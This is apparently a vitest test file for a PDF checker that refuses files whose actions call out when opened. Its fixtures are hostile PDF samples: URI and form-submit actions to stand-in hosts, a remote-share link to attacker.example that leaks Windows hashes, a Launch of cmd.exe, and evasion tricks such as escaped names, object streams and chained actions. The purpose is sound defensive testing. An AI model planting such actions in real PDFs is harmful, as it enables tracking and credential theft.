import { readdirSync, readFileSync } from "node:fs";
import { deflateSync } from "node:zlib";
import { describe, expect, it } from "vitest";
import { checkPdf } from "./pdf.js";

/** A PDF of these objects (`"<id> 0 obj ... endobj"` each) whose catalog is object 1. */
const pdfOf = (...objects: string[]) =>
  Buffer.from(`%PDF-1.7\n${objects.join("\n")}\ntrailer<</Root 1 0 R>>\n%%EOF\n`, "latin1");

/** A PDF 1.5 file keeping `packed` (`[id, value]`) inside a compressed object stream, beside `plain` objects. */
function pdfWithObjectStream(plain: string[], packed: [number, string][]) {
  let header = "";
  let body = "";
  for (const [id, value] of packed) {
    header += `${id} ${body.length} `;
    body += `${value}\n`;
  }
  const data = deflateSync(Buffer.from(header + body, "latin1"));
  return Buffer.concat([
    Buffer.from(`%PDF-1.7\n${plain.join("\n")}\n`, "latin1"),
    Buffer.from(
      `90 0 obj<</Type/ObjStm/N ${packed.length}/First ${header.length}/Filter/FlateDecode/Length ${data.length}>>stream\n`,
    ),
    data,
    Buffer.from("\nendstream\nendobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"),
  ]);
}

const catalog = (extra: string) => `1 0 obj<</Type/Catalog/Pages 2 0 R${extra}>>endobj`;
const pages = "2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj";
const page = (extra = "") => `3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]${extra}>>endobj`;

describe("a PDF that calls out by itself when it is opened", () => {
  const refused: [string, Buffer][] = [
    [
      "an /OpenAction to a web address, through an indirect object",
      pdfOf(catalog("/OpenAction 4 0 R"), pages, page(), "4 0 obj<</S/URI/URI(https://tracker.example/p?id=1)>>endobj"),
    ],
    [
      "an /OpenAction that sends a form",
      pdfOf(catalog("/OpenAction<</S/SubmitForm/F<</FS/URL/F(https://x.example)>>>>"), pages, page()),
    ],
    [
      "a page's /AA opening a remote PDF on a Windows share (the reader sends its hash)",
      pdfOf(catalog(""), pages, page("/AA<</O<</S/GoToR/F(\\\\\\\\attacker.example\\\\share\\\\x.pdf)/D[0/Fit]>>>>")),
    ],
    [
      "a page's /AA kept in its own object, going to an embedded file's remote target",
      pdfOf(
        catalog(""),
        pages,
        page("/AA 5 0 R"),
        "5 0 obj<</O 6 0 R>>endobj",
        "6 0 obj<</S/GoToE/F(other.pdf)/D[0/Fit]/T<</R/C/N(x)>>>>endobj",
      ),
    ],
    [
      "a form field's /AA that imports data",
      pdfOf(
        catalog("/AcroForm<</Fields[7 0 R]>>"),
        pages,
        page(),
        "7 0 obj<</FT/Tx/T(name)/AA<</Fo<</S/ImportData/F(data.fdf)>>>>>>endobj",
      ),
    ],
    [
      "a harmless action with a web address chained after it",
      pdfOf(
        catalog("/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next 8 0 R>>"),
        pages,
        page(),
        "8 0 obj<</S/URI/URI(https://x.example)>>endobj",
      ),
    ],
    [
      "a chain given as an array",
      pdfOf(
        catalog("/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next[<</S/GoTo/D[3 0 R/Fit]>> 8 0 R]>>"),
        pages,
        page(),
        "8 0 obj<</S/URI/URI(https://x.example)>>endobj",
      ),
    ],
    [
      "an action type written with escapes (/U#52I is /URI)",
      pdfOf(catalog("/OpenAction<</S/U#52I/URI(https://x.example)>>"), pages, page()),
    ],
    [
      "an /OpenAction whose action is hidden in a compressed object stream",
      pdfWithObjectStream([catalog("/OpenAction 4 0 R"), pages, page()], [[4, "<</S/URI/URI(https://x.example)>>"]]),
    ],
    [
      "a catalog itself inside an object stream",
      pdfWithObjectStream(
        [pages, page()],
        [[1, "<</Type/Catalog/Pages 2 0 R/OpenAction<</S/SubmitForm/F(https://x.example)>>>>"]],
      ),
    ],
    [
      "an older update of the action object, replaced by a harmless one in a later update",
      pdfOf(
        catalog("/OpenAction 4 0 R"),
        pages,
        page(),
        "4 0 obj<</S/URI/URI(https://x.example)>>endobj",
        "4 0 obj<</S/GoTo/D[3 0 R/Fit]>>endobj",
      ),
    ],
  ];
  it.each(refused)("refuses %s", async (_, pdf) => {
    expect(await checkPdf(pdf)).toBe("action");
  });

  it("still names script and launch actions for what they are", async () => {
    expect(await checkPdf(pdfOf(catalog("/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>"), pages, page()))).toBe(
      "script",
    );
    expect(await checkPdf(pdfOf(catalog("/OpenAction<</S/Launch/F(cmd.exe)>>"), pages, page()))).toBe("launch");
  });

  it("does not loop on actions that chain to each other", async () => {
    const pdf = pdfOf(
      catalog("/OpenAction 4 0 R"),
      pages,
      page(),
      "4 0 obj<</S/GoTo/D[3 0 R/Fit]/Next 5 0 R>>endobj",
      "5 0 obj<</S/GoTo/D[3 0 R/Fit]/Next 4 0 R>>endobj",
    );
    expect(await checkPdf(pdf)).toBe("ok");
  });

  it("cannot check syntax nested past reason, so it is refused as unchecked", async () => {
    expect(await checkPdf(pdfOf(catalog(`/OpenAction${"[".repeat(5000)}`), pages, page()))).toBe("unchecked");
  });
});

describe("an ordinary PDF", () => {
  it.each([
    ["an /OpenAction that only sets the opening view", pdfOf(catalog("/OpenAction[3 0 R/FitH 842]"), pages, page())],
    [
      "an /OpenAction going to a page",
      pdfOf(catalog("/OpenAction<</S/GoTo/D[3 0 R/XYZ null null 0]>>"), pages, page()),
    ],
    [
      "a web link in the text, followed only when someone clicks it",
      pdfOf(
        catalog(""),
        pages,
        page("/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 10 10]/A<</S/URI/URI(https://example.org)>>>>]"),
      ),
    ],
    [
      "a page whose /AA only goes to another page",
      pdfOf(catalog(""), pages, page("/AA<</O<</S/GoTo/D[3 0 R/Fit]>>>>")),
    ],
  ])("passes with %s", async (_, pdf) => {
    expect(await checkPdf(pdf)).toBe("ok");
  });

  // Real exports, kept as files: LibreOffice Writer (from HTML, and from a .docx with tagging and an opening view
  // of the page width), LibreOffice Calc, and pdfTeX with hyperref (links, an opening view, object streams).
  const corpus = new URL("../../../../test/support/pdf-corpus/", import.meta.url);
  it.each(readdirSync(corpus).filter((name) => name.endsWith(".pdf")))("passes the export %s", async (name) => {
    expect(await checkPdf(readFileSync(new URL(name, corpus)))).toBe("ok");
  });
});
